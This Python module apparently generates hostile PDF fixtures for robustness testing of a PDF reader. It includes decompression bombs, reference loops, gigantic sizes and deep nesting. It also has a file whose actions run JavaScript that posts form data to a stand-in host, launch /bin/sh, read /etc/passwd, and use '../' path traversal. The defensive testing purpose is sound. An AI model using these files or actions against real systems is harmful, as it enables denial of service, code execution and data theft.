"""Makes PDFs that nobody means well with: loops, bombs, and sizes beyond sense.

Each maker returns the bytes of one file. Some take their size as an argument, so that tests can
stay quick and a longer run can be nasty.
"""

import zlib
from collections.abc import Callable, Mapping, Sequence
from typing import Final

_HEAD: Final = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
_TEXT: Final = b"BT /F1 12 Tf 72 700 Td (Hello, measure 1) Tj ET"
_FONT: Final = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def build(
    objects: Mapping[int, bytes], trailer: bytes = b"/Root 1 0 R", tail: bytes = b""
) -> bytes:
    """Write objects with a table of their offsets.

    Args:
        objects: bodies by object number.
        trailer: entries of the trailer beside /Size.
        tail: what stands behind the last object.
    """
    out = bytearray(_HEAD)
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        known = number in offsets
        out += b"%010d 00000 %c \n" % (offsets.get(number, 0), b"n" if known else b"f")
    out += b"trailer\n<< /Size %d %b >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"", *, length: bytes | None = None) -> bytes:
    """Write a stream object."""
    length = b"%d" % len(data) if length is None else length
    return b"<< /Length %b %b >>\nstream\n%b\nendstream" % (length, entries, data)


def deflated(data: bytes, entries: bytes = b"") -> bytes:
    """Write a stream object with Flate compression."""
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + entries)


def one_page(
    content: bytes,
    *,
    page: bytes = b"",
    resources: bytes = b"",
    catalog: bytes = b"",
    box: bytes = b"[0 0 595 842]",
    more: Mapping[int, bytes] | None = None,
) -> bytes:
    """Write a PDF of one page whose content is object 4 and whose font F1 is object 5."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox %b /Contents 4 0 R %b"
        b" /Resources << /Font << /F1 5 0 R >> %b >> >>" % (box, page, resources),
        4: content,
        5: _FONT,
    }
    return build({**objects, **(more or {})})


def pages_in_a_circle() -> bytes:
    """The page tree holds itself."""
    return build(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        }
    )


def deep_page_tree(depth: int = 3000) -> bytes:
    """A page below thousands of nodes with one child each."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    for number in range(2, depth + 2):
        objects[number] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1)
    objects[depth + 2] = (
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R"
        b" /Resources << /Font << /F1 %d 0 R >> >> >>" % (depth + 1, depth + 3, depth + 4)
    )
    objects[depth + 3] = stream(_TEXT)
    objects[depth + 4] = _FONT
    return build(objects)


def many_pages(count: int = 10_000) -> bytes:
    """As many pages as no plan has."""
    kids = b" ".join(b"%d 0 R" % (n + 5) for n in range(count))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count),
        3: stream(_TEXT),
        4: _FONT,
    }
    for n in range(count):
        objects[n + 5] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R"
            b" /Resources << /Font << /F1 4 0 R >> >> >>"
        )
    return build(objects)


def false_page_count() -> bytes:
    """The tree says that it has a thousand million pages."""
    return one_page(stream(_TEXT)).replace(b"/Count 1 ", b"/Count 1000000000 ")


def xref_loop() -> bytes:
    """The table of offsets names itself as the one before."""
    data = one_page(stream(_TEXT))
    start = int(data.rsplit(b"startxref\n", 1)[1].split()[0])
    return data.replace(b"trailer\n<< ", b"trailer\n<< /Prev %d " % start)


def xref_far_away() -> bytes:
    """The table of offsets lies behind the end of the file."""
    head, _ = one_page(stream(_TEXT)).rsplit(b"startxref\n", 1)
    return head + b"startxref\n99999999999999999999\n%%EOF\n"


def broken_offsets() -> bytes:
    """Every offset is wrong, as after a text editor; readers look for the objects."""
    return one_page(stream(_TEXT)).replace(_HEAD, _HEAD + b"% some words put in by hand\n" * 3)


def length_of_itself() -> bytes:
    """The length of a stream is the stream."""
    return one_page(stream(_TEXT, length=b"4 0 R"))


def object_stream_of_itself() -> bytes:
    """An object stream that is said to stand in itself."""
    body = b"6 0 << /Type /ObjStm >>"
    return one_page(
        stream(_TEXT),
        catalog=b"/Extra 6 0 R",
        more={6: stream(body, b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R")},
    )


def flate_bomb(megabytes: int = 1000) -> bytes:
    """The content of a page inflates to a thousand times its size."""
    press = zlib.compressobj(9)
    part = b" " * (1 << 20)
    data = b"".join(press.compress(part) for _ in range(megabytes)) + press.flush()
    return one_page(stream(data, b"/Filter /FlateDecode"))


def flate_bomb_twice(megabytes: int = 2000) -> bytes:
    """A bomb in a bomb: two filters, a few kilobytes."""
    press = zlib.compressobj(9)
    part = b" " * (1 << 20)
    data = b"".join(press.compress(part) for _ in range(megabytes)) + press.flush()
    return one_page(stream(zlib.compress(data, 9), b"/Filter [/FlateDecode /FlateDecode]"))


def bomb_in_character_map(megabytes: int = 300) -> bytes:
    """The ToUnicode map of a font inflates without end."""
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    return one_page(stream(_TEXT), more={5: font, 6: deflated(b" " * (megabytes << 20))})


def huge_character_range() -> bytes:
    """A ToUnicode map with a range of thousands of millions of codes."""
    cmap = b"1 beginbfrange <00000000> <ffffffff> <0e01> endbfrange"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    return one_page(stream(_TEXT), more={5: font, 6: stream(cmap)})


def huge_width_range() -> bytes:
    """A font with the widths of thousands of millions of glyphs."""
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H"
    font += b" /DescendantFonts [6 0 R] >>"
    below = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /W [0 4000000000 500]"
    below += b" /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >>"
    below += b" /FontDescriptor << /Type /FontDescriptor /FontName /A >> >>"
    return one_page(stream(_TEXT), more={5: font, 6: below})


def huge_image(side: int = 20_000) -> bytes:
    """An image of 20,000 by 20,000 points in some kilobytes."""
    press = zlib.compressobj(9)
    row = bytes(side)
    data = b"".join(press.compress(row) for _ in range(side)) + press.flush()
    image = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray"
    image += b" /BitsPerComponent 8 /Filter /FlateDecode"
    return one_page(
        stream(b"q 500 0 0 700 40 40 cm /I Do Q"),
        resources=b"/XObject << /I 6 0 R >>",
        more={6: stream(data, image % (side, side))},
    )


def huge_page() -> bytes:
    """A page as large as a continent."""
    return one_page(stream(_TEXT), box=b"[0 0 1000000000000 1000000000000]")


def no_page() -> bytes:
    """A page without any extent."""
    return one_page(stream(_TEXT), box=b"[0 0 0 0]")


def odd_page_box() -> bytes:
    """A page whose box is no box."""
    return one_page(stream(_TEXT), box=b"[/Name (text) null true]")


def many_glyphs(count: int = 300_000) -> bytes:
    """A page black with letters."""
    lines = [
        b"BT /F1 1 Tf 1 0 0 1 20 %.2f Tm (%b) Tj ET" % (830 - n * 0.8, b"x" * 1000)
        for n in range(count // 1000)
    ]
    return one_page(deflated(b"\n".join(lines)))


def glyphs_on_one_spot(count: int = 100_000) -> bytes:
    """The same letter again and again at the same place."""
    return one_page(deflated(b"BT /F1 12 Tf 1 0 0 1 72 700 Tm (x) Tj ET\n" * count))


def many_rules(count: int = 3000) -> bytes:
    """A grid with a million cells."""
    step = 500 / count
    lines = [b"40 %.4f m 540 %.4f l" % (40 + n * step, 40 + n * step) for n in range(count)]
    lines += [b"%.4f 40 m %.4f 540 l" % (40 + n * step, 40 + n * step) for n in range(count)]
    return one_page(deflated(b"\n".join(lines) + b" S\n" + _TEXT))


def nested_forms(levels: int = 9, times: int = 10) -> bytes:
    """Forms that draw forms: a thousand million boxes from a kilobyte."""
    more = {}
    for level in range(levels):
        inner = b"/X Do\n" * times if level + 1 < levels else b"10 10 20 20 re S\n" * times
        more[6 + level] = stream(
            inner,
            b"/Type /XObject /Subtype /Form /BBox [0 0 600 900]"
            b" /Resources << /XObject << /X %d 0 R >> >>" % (7 + level),
        )
    return one_page(stream(_TEXT + b" /X Do"), resources=b"/XObject << /X 6 0 R >>", more=more)


def form_of_itself() -> bytes:
    """A form that draws itself."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 600 900]"
    form += b" /Resources << /XObject << /X 6 0 R >> >>"
    return one_page(
        stream(_TEXT + b" /X Do"),
        resources=b"/XObject << /X 6 0 R >>",
        more={6: stream(b"10 10 20 20 re S /X Do", form)},
    )


def glyph_program_of_itself() -> bytes:
    """A Type 3 font whose glyph is written with the font itself."""
    font = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FirstChar 72 /LastChar 72"
    font += b" /FontMatrix [0.001 0 0 0.001 0 0] /Widths [1000] /CharProcs << /H 6 0 R >>"
    font += b" /Encoding << /Differences [72 /H] >> /Resources << /Font << /F1 5 0 R >> >> >>"
    return one_page(stream(_TEXT), more={5: font, 6: stream(b"BT /F1 12 Tf (H) Tj ET")})


def deep_nesting(depth: int = 100_000) -> bytes:
    """Arrays in arrays in arrays."""
    return one_page(stream(_TEXT), catalog=b"/Deep " + b"[" * depth + b"]" * depth)


def deep_operands(depth: int = 100_000) -> bytes:
    """Arrays in arrays among the operands of a page."""
    return one_page(deflated(b"[" * depth + b"]" * depth + b" TJ " + _TEXT))


def many_states(count: int = 1_000_000) -> bytes:
    """A graphics state saved a million times."""
    return one_page(deflated(b"q " * count + _TEXT))


def programs() -> bytes:
    """A file that would like to run scripts, start programs and send forms."""
    catalog = (
        b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\)) >>"
        b" /AA << /WC << /S /Launch /F (/bin/sh) >> >> /Names << /JavaScript << /Names"
        b" [(a) << /S /JavaScript /JS (this.submitForm\\('http://192.0.2.1/'\\)) >>] >> >>"
    )
    page = b"/AA << /O << /S /URI /URI (http://192.0.2.1/) >> >>"
    return one_page(stream(_TEXT), catalog=catalog, page=page)


def outside_content() -> bytes:
    """A page whose content is said to lie in another file."""
    return one_page(stream(b"", b"/F << /Type /Filespec /F (/etc/passwd) >>"))


def portfolio() -> bytes:
    """A collection of attached files with a cover page."""
    catalog = (
        b"/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(../a.pdf) 6 0 R] >> >>"
    )
    files = {
        6: b"<< /Type /Filespec /F (../../a.pdf) /EF << /F 7 0 R >> >>",
        7: stream(b"%PDF-1.4 nothing", b"/Type /EmbeddedFile"),
    }
    return one_page(stream(_TEXT), catalog=catalog, more=files)


MAKERS: Final[Sequence[Callable[[], bytes]]] = (
    pages_in_a_circle,
    deep_page_tree,
    many_pages,
    false_page_count,
    xref_loop,
    xref_far_away,
    broken_offsets,
    length_of_itself,
    object_stream_of_itself,
    flate_bomb,
    flate_bomb_twice,
    bomb_in_character_map,
    huge_character_range,
    huge_width_range,
    huge_image,
    huge_page,
    no_page,
    odd_page_box,
    many_glyphs,
    glyphs_on_one_spot,
    many_rules,
    nested_forms,
    form_of_itself,
    glyph_program_of_itself,
    deep_nesting,
    deep_operands,
    many_states,
    programs,
    outside_content,
    portfolio,
)
"""All makers, with the sizes that hurt."""
